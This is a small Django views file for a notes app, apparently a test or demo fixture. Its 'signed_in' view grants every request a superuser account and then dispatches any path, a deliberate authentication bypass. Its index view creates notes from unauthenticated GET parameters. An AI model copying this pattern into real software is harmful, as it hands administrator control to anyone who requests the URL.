import datetime

from django.contrib.auth.models import User
from django.shortcuts import render
from django.urls import resolve

from .models import Note

NOON = datetime.datetime(2024, 7, 1, 12, tzinfo=datetime.timezone.utc)


def index(request):
    if "text" in request.GET:
        Note.objects.create(text=request.GET["text"], when=NOON)
    return render(request, "notes/index.html", {"notes": Note.objects.all()})


def signed_in(request, rest):
    """Shows a page as the administrator sees it: requests here bring no cookies."""
    request.user, _ = User.objects.get_or_create(username="admin", is_staff=True, is_superuser=True)
    request.path = request.path_info = "/" + rest
    view = resolve(request.path)
    return view.func(request, *view.args, **view.kwargs)
